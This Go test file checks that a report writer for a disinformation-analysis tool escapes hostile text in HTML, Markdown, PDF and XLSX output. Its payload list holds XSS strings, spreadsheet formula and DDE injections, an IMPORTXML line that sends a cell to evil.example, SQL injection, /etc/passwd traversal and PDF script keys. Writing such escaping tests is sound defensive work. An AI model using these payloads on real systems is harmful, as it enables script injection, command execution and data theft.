package report

import (
	"archive/zip"
	"bytes"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"

	"github.com/xuri/excelize/v2"

	"github.com/qalxan/qalxan"
)

// hostile are 200 texts that try to be more than text.
func hostile() []string {
	payloads := []string{
		"<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'-alert(1)-'", "</title><script>alert(1)</script>", "</style><svg onload=alert(1)>",
		"javascript:alert(1)", "<a href=\"javascript:alert(1)\">x</a>", "<iframe srcdoc='<script>alert(1)</script>'>", "<!--", "]]><![CDATA[", "&lt;script&gt;", "{{.Title}}",
		"{{template \"run\"}}", "<svg><animate onbegin=alert(1) attributeName=x>", "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">", "<base href=//evil.example>",
		"<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example>", "<form action=//evil.example><input name=x>", "\u2028alert(1)\u2029",
		"=HYPERLINK(\"http://evil.example\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")",
		"[link](javascript:alert(1))", "![image](http://evil.example/x.png)", "# Heading", "> quote", "- item", "1. item", "```\ncode\n```", "| cell | cell |", "<https://evil.example>", "https://evil.example/bare", "www.evil.example", "me@evil.example", "[a]: http://evil.example", "&#x5b;x](http://evil.example)", "---", "~~~", "$\\input{/etc/passwd}$", "@everyone", "\\[x](http://evil.example)", "<details open ontoggle=alert(1)>",
		"\x00", "a\x00b", "\x1b[31mred\x1b[0m", "\u202egpj.exe", "\u2066\u2067\u2068", "\u202a\u202b\u202c\u202d", "\xff\xfe", "\xed\xa0\x80", "\xf4\x90\x80\x80", "\ufffe\uffff", "\ufeff", "\u200b\u200d\u2060", strings.Repeat("\u0301", 500), strings.Repeat("ﷺ", 100), "𝕬𝖟 🇦🇿 👩‍👩‍👧", "\U000e0041\U000e0042", ") Tj ET Q (", ">> endobj stream", "<FEFF>", "%PDF-1.7", "(((((\\", "/JS (app.alert(1))", "endstream endobj", "'; DROP TABLE findings;--", "../../../etc/passwd", "%n%s%x",
	}
	wrap := []func(string) string{
		func(s string) string { return s },
		func(s string) string { return "یک متن " + s + " 2026 و ادامه" },
		func(s string) string { return strings.Repeat(s, 40) },
	}
	var out []string
	for _, w := range wrap {
		for _, p := range payloads {
			if len(out) < 199 {
				out = append(out, w(p))
			}
		}
	}
	return append(out, strings.Repeat("<b>=a\u202e ", 1<<20/8))
}

// attacked is a document with a text in every field that can be foreign.
func attacked(s string) Document {
	i := item("https://first.example/1", "first", s, s+"\n"+s, s, morning)
	i.Identity, i.URL, i.Author, i.Site, i.Canonical, i.CaptureID = s, s, s, s, s, s
	i.Dates[0].Origin = s
	i.Withheld = &qalxan.Withheld{By: qalxan.WithheldNoCopy, Rule: s, Place: s}
	g := qalxan.Signal{
		ID: s, ItemID: i.ID, Detector: qalxan.DetectNarrative, Key: s, Score: 0.5, Stance: qalxan.StanceSpreads, Techniques: []string{s},
		Spans:  []qalxan.Span{{Field: qalxan.FieldTitle, From: 1, To: 4}, {Field: qalxan.FieldText, From: 2, To: 9}, {Field: qalxan.FieldText, From: -5, To: 1 << 30}},
		Reason: qalxan.Reason{Code: "narrative.spreads", Facts: map[string]string{"claim": s, "passage": s, "wording": s}, Text: s},
	}
	f := finding(i, qalxan.LevelCritical, "c-1", g)
	f.ID, f.Reason.Text, f.Criteria = s, s, s
	f.Decisions[0].By, f.Decisions[0].Reason = s, s
	campaign := qalxan.Campaign{
		ID: "c-1", Title: s, Narratives: []string{s},
		Breakout: qalxan.Breakout{Category: 4, SetBy: s, Why: s, Steps: []qalxan.BreakoutStep{{Category: 2, Item: s, Why: s}}},
	}
	k := capture(i)
	k.Location.File, k.SHA256 = s, s
	src := source("first", s)
	src.ID, src.Kind, src.Reach, src.Grade = s, qalxan.Kind(s), qalxan.Reach(s), qalxan.Grade(s)
	return Document{
		Title: s, Generated: morning, Query: s, Criteria: s, Marking: s, Campaigns: []qalxan.Campaign{campaign},
		Findings: []Entry{{Finding: f, Item: i, Source: src, Captures: []qalxan.Capture{k}, Compared: []qalxan.Item{i}, Campaign: &campaign}},
	}
}

// TestHostileTexts puts 200 hostile texts in every field of every form.
func TestHostileTexts(t *testing.T) {
	texts := hostile()
	if len(texts) != 200 {
		t.Fatalf("%d texts, want 200", len(texts))
	}
	var tool string
	if path, err := exec.LookPath("pdfinfo"); err == nil {
		tool = path
	} else {
		t.Log("pdfinfo is not installed (poppler-utils); the PDF files are not read by another program")
	}
	for n, s := range texts {
		d := attacked(s)
		d.Kind = Kinds()[n/67%3] // each text comes three times
		d.Languages = []string{[]string{"en", "az", "ru"}[n%3]}
		checkPage(t, n, written(t, HTML, d))
		checkMarkdown(t, n, written(t, Markdown, d))
		checkPDF(t, n, written(t, PDF, d), tool)
		checkWorkbook(t, n, written(t, XLSX, d))
	}
}

func written(t testing.TB, as Format, d Document) []byte {
	t.Helper()
	var out bytes.Buffer
	if err := Write(&out, as, d); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

var elements = " html head meta title style body header h1 h2 h3 h4 p main footer div ol ul li table thead tbody tr th td blockquote svg line rect circle text a bdi mark sup code span "

func checkPage(t *testing.T, n int, page []byte) {
	t.Helper()
	root, err := html.Parse(bytes.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	metas := 0
	for node := range root.Descendants() {
		if node.Type != html.ElementNode {
			continue
		}
		if !strings.Contains(elements, " "+node.Data+" ") {
			t.Errorf("text %d became <%s>", n, node.Data)
		}
		if node.Data == "meta" {
			metas++
		}
		for _, a := range node.Attr {
			checkAttribute(t, node.Data, a)
		}
	}
	if metas != 5 {
		t.Errorf("text %d: %d meta elements, want 5", n, metas)
	}
}

// genuine is a link that a paper may hold: to an address that report.Link lets
// through, with an escaped text.
var genuine = regexp.MustCompile(`\[((?:\\.|[^\]\\])*)\]\(<https?://[^<>\s\\|]*>\)`)

// checkMarkdown looks for signs that are not escaped: after the signs of the
// form itself nothing may be left that means something.
func checkMarkdown(t *testing.T, n int, text []byte) {
	t.Helper()
	for number, line := range strings.Split(string(text), "\n") {
		line = genuine.ReplaceAllString(line, "$1")
		bare := strings.NewReplacer("**", "", "| --- |", "", " --- |", "", " | ", " ").Replace(line)
		bare = strings.TrimLeft(strings.TrimRight(bare, "| "), "#>|-0123456789. ")
		escaped := false
		for _, r := range bare {
			if !escaped && strings.ContainsRune("<>`*_![](~@:$", r) {
				t.Fatalf("text %d, line %d: %q stands unescaped in %q", n, number+1, r, line)
			}
			escaped = r == '\\' && !escaped
		}
	}
}

func checkPDF(t *testing.T, n int, file []byte, tool string) {
	t.Helper()
	if !bytes.HasPrefix(file, []byte("%PDF-1.7")) || !bytes.HasSuffix(file, []byte("%%EOF\n")) || len(file) > 4<<20 {
		t.Fatalf("text %d: no PDF of a sane size (%d bytes)", n, len(file))
	}
	for _, active := range []string{"/JS", "/JavaScript", "/Launch", "/OpenAction", "/AA", "/EmbeddedFile", "/SubmitForm"} {
		if outside := bytes.Contains(file, []byte("<<"+active)); outside {
			t.Errorf("text %d: the file holds %s", n, active)
		}
	}
	if tool == "" || n%10 != 9 {
		return
	}
	name := filepath.Join(t.TempDir(), "hostile.pdf")
	if err := os.WriteFile(name, file, 0o600); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command(tool, name).CombinedOutput(); err != nil || bytes.Contains(out, []byte("Error")) {
		t.Errorf("text %d: pdfinfo: %v\n%s", n, err, out)
	}
}

func checkWorkbook(t *testing.T, n int, file []byte) {
	t.Helper()
	archive, err := zip.NewReader(bytes.NewReader(file), int64(len(file)))
	if err != nil {
		t.Fatalf("text %d: %v", n, err)
	}
	for _, part := range archive.File {
		r, err := part.Open()
		if err != nil {
			t.Fatal(err)
		}
		for dec := xml.NewDecoder(r); ; {
			token, err := dec.Token()
			if errors.Is(err, io.EOF) {
				break
			}
			if err != nil {
				t.Fatalf("text %d: %s: %v", n, part.Name, err)
			}
			if e, ok := token.(xml.StartElement); ok && (e.Name.Local == "f" || e.Name.Local == "hyperlink") {
				t.Errorf("text %d: %s holds <%s>", n, part.Name, e.Name.Local)
			}
		}
	}
	book, err := excelize.OpenReader(bytes.NewReader(file))
	if err != nil {
		t.Fatalf("text %d: %v", n, err)
	}
	if names := fmt.Sprint(book.GetSheetList()); names != "[findings signals campaigns about]" {
		t.Errorf("text %d: sheets %s", n, names)
	}
}

// many is a document of n findings of the same campaign.
func many(n int) Document {
	d := document()
	entries := d.Findings
	d.Findings = nil
	for i := range n {
		e := entries[i%len(entries)]
		e.Finding.ID = fmt.Sprintf("f-%016x", i)
		e.Item.Text = strings.Repeat(e.Item.Text+" ", 5)
		d.Findings = append(d.Findings, e)
	}
	return d
}

// TestManyFindings bounds what a large report costs; only its size is asserted.
func TestManyFindings(t *testing.T) {
	d := many(1000)
	for _, as := range []Format{HTML, PDF, XLSX} {
		began := time.Now()
		size := len(written(t, as, d))
		t.Logf("%s: 1,000 findings in %v, %d KB", as, time.Since(began).Round(time.Millisecond), size>>10)
		if size > 64<<20 {
			t.Errorf("%s is %d bytes", as, size)
		}
	}
}

func BenchmarkWritePDF(b *testing.B) {
	d := many(1000)
	b.ReportAllocs()
	for b.Loop() {
		if err := Write(io.Discard, PDF, d); err != nil {
			b.Fatal(err)
		}
	}
}

// TestSameDocumentSameBytes writes every form twice.
func TestSameDocumentSameBytes(t *testing.T) {
	for _, as := range Formats() {
		if !bytes.Equal(written(t, as, document()), written(t, as, document())) {
			t.Errorf("%s: the same document gave other bytes", as)
		}
	}
}
